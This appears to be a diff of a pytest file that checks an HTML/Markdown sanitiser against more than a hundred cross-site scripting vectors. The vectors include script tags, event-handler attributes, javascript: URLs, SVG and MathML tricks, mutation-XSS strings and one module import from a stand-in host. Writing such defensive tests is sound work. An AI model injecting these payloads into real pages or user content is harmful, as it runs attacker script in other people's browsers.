@@ -1,6 +1,6 @@
-"""What a post can't do to its readers, however it is written.
+"""Attempts at cross-site scripting by a post.
 
-After the OWASP filter evasion cheat sheet, the PortSwigger cheat sheet, and published bypasses of sanitisers.
+The vectors come from the OWASP filter evasion cheat sheet, the PortSwigger cheat sheet and published bypasses.
 """
 
 import pytest
@@ -19,7 +19,7 @@ VECTORS = [
     "<script>alert(1)",
     "text <script>alert(1)</script> text",
     "<script type=module>import('https://evil.example')</script>",
-    # handlers
+    # event handlers
     "<img src=x onerror=alert(1)>",
     "<img src=x onerror\n=\nalert(1)>",
     "<img src='x' oNeRrOr='alert(1)'>",
@@ -37,7 +37,7 @@ VECTORS = [
     "<marquee onstart=alert(1)>x</marquee>",
     "<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>",
     "<x onclick=alert(1)>x</x>",
-    # addresses
+    # URLs
     "[a](javascript:alert(1))",
     "[a](JaVaScRiPt:alert(1))",
     "[a](<java\tscript:alert(1)>)",
@@ -64,7 +64,7 @@ VECTORS = [
     "<picture><source srcset='data:text/html,x'><img src=x></picture>",
     "<blockquote cite=javascript:alert(1)>x</blockquote>",
     "<area href=javascript:alert(1)>",
-    # frames, forms, and what the page is made of
+    # frames, forms and the page's structure
     "<iframe src=javascript:alert(1)></iframe>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
     "<object data=javascript:alert(1)></object>",
@@ -83,7 +83,7 @@ VECTORS = [
     "<p style=\"background:url('javascript:alert(1)')\">x</p>",
     "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
     "<font color=red>x</font>",
-    # other languages
+    # SVG and MathML
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
@@ -92,7 +92,7 @@ VECTORS = [
     "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
     "<math href=javascript:alert(1)>x</math>",
     "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
-    # mutations: harmless as they stand, harmful once a browser has put them right
+    # mutations: harmless as text, harmful after a browser has repaired them
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
@@ -110,7 +110,7 @@ VECTORS = [
     "<?xml version='1.0'?><script>alert(1)</script>",
     "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
     "<ruby><rt><style></rt></ruby><img src=x onerror=alert(1)>",
-    # out of Markdown's own places
+    # within Markdown's syntax
     "![\"onerror=alert(1) x=\"](x)",
     "![a](x \"\\\" onerror=alert(1) x=\\\"\")",
     "![a](x '<img src=x onerror=alert(1)>')",
@@ -139,7 +139,7 @@ VECTORS = [
     "<scr\x00ipt>alert(1)</scr\x00ipt>",
     "＜script＞alert(1)＜/script＞",
     "<img src=x:x onerror&equals;alert(1)>",
-    # what belongs to the page
+    # attributes that belong to the page
     "<p class='site-header modal'>x</p>",
     "<p id='x y' class=\"left' onclick=alert(1)\">x</p>",
     "<p id='\"><script>alert(1)</script>'>x</p>",
@@ -154,16 +154,16 @@ VECTORS = [
 
 
 @pytest.mark.parametrize("vector", VECTORS)
-def test_nothing_dangerous_is_left(vector: str) -> None:
+def test_sanitizing_removes_every_vector(vector: str) -> None:
     assert find_dangers(parse(vector).render().html) == []
 
 
 @pytest.mark.parametrize("vector", VECTORS)
-def test_nor_after_other_text(vector: str) -> None:
+def test_sanitizing_removes_every_vector_after_other_text(vector: str) -> None:
     assert find_dangers(parse(f"Text.\n\n> - {vector}\n\n{vector}{vector}").render().html) == []
 
 
-def test_they_are_many() -> None:
+def test_vectors_are_distinct_and_more_than_100() -> None:
     assert len(set(VECTORS)) == len(VECTORS) > 100
 
 
@@ -180,5 +180,5 @@ def test_they_are_many() -> None:
         "<!-- x -->",
     ],
 )
-def test_this_test_sees_dangers(html: str) -> None:
+def test_find_dangers_finds_dangerous_html(html: str) -> None:
     assert find_dangers(html)
